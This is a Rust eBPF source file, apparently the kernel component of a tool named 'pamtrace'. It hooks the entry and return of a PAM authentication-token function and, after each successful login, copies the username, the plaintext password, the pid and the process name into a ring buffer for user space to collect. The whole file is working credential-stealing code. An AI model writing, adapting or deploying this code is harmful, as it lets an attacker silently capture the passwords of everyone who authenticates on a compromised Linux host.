#![no_std]
#![no_main]

use aya_ebpf::{
	helpers::{bpf_get_current_comm, bpf_get_current_pid_tgid, bpf_probe_read_user, bpf_probe_read_user_str_bytes},
	macros::{map, uprobe, uretprobe},
	maps::{HashMap, RingBuf},
	programs::{ProbeContext, RetProbeContext},
};
use aya_log_ebpf::error;
use pamtrace_common::{AuthEvent, COMM_LEN, CRED_LEN};

#[map]
static AUTH_EVENTS: RingBuf = RingBuf::with_byte_size(32 * 1024, 0);

// pam handle pointer per thread, stashed at function entry so the
// return probe can walk it once the authtok has been filled in.
#[map]
static PENDING: HashMap<u64, u64> = HashMap::with_max_entries(1024, 0);

const PAM_SUCCESS: i32 = 0;

// struct pam_handle layout, Linux-PAM on 64-bit: authtok is the first
// field; user sits past caller_is, pam_conversation, oldauthtok,
// prompt and service_name.
const PAMH_AUTHTOK_OFFSET: usize = 0;
const PAMH_USER_OFFSET: usize = 48;

#[uprobe]
pub fn authtok_enter(ctx: ProbeContext) -> u32 {
	match try_authtok_enter(ctx) {
		Ok(ret) => ret,
		Err(ret) => ret,
	}
}

#[uretprobe]
pub fn authtok_exit(ctx: RetProbeContext) -> u32 {
	match try_authtok_exit(ctx) {
		Ok(ret) => ret,
		Err(ret) => ret,
	}
}

fn try_authtok_enter(ctx: ProbeContext) -> Result<u32, u32> {
	let pamh: *const u8 = ctx.arg(0).ok_or(1u32)?;
	let tid = bpf_get_current_pid_tgid();

	PENDING.insert(&tid, &(pamh as u64), 0).map_err(|_| 1u32)?;
	Ok(0)
}

fn try_authtok_exit(ctx: RetProbeContext) -> Result<u32, u32> {
	let tid = bpf_get_current_pid_tgid();
	let pamh = match unsafe { PENDING.get(&tid) } {
		Some(pamh) => *pamh,
		None => return Ok(0),
	};
	let _ = PENDING.remove(&tid);

	let ret: i32 = ctx.ret().ok_or(1u32)?;
	if ret != PAM_SUCCESS {
		return Ok(0);
	}

	let mut event = AuthEvent {
		pid: (tid >> 32) as i32,
		comm: bpf_get_current_comm().unwrap_or([0u8; COMM_LEN]),
		username: [0u8; CRED_LEN],
		password: [0u8; CRED_LEN],
	};

	unsafe {
		let user: u64 = bpf_probe_read_user((pamh as usize + PAMH_USER_OFFSET) as *const u64).map_err(|_| 1u32)?;
		if user != 0 {
			let _ = bpf_probe_read_user_str_bytes(user as *const u8, &mut event.username);
		}

		let authtok: u64 = bpf_probe_read_user((pamh as usize + PAMH_AUTHTOK_OFFSET) as *const u64).map_err(|_| 1u32)?;
		if authtok != 0 {
			let _ = bpf_probe_read_user_str_bytes(authtok as *const u8, &mut event.password);
		}
	}

	match AUTH_EVENTS.output(&event, 0) {
		Ok(_) => (),
		Err(e) => error!(&ctx, "Couldn't write to the ring buffer ->> ERROR: {}", e),
	}

	Ok(0)
}

#[cfg(not(test))]
#[panic_handler]
fn panic(_info: &core::panic::PanicInfo) -> ! {
	loop {}
}

#[link_section = "license"]
#[no_mangle]
static LICENSE: [u8; 13] = *b"Dual MIT/GPL\0";
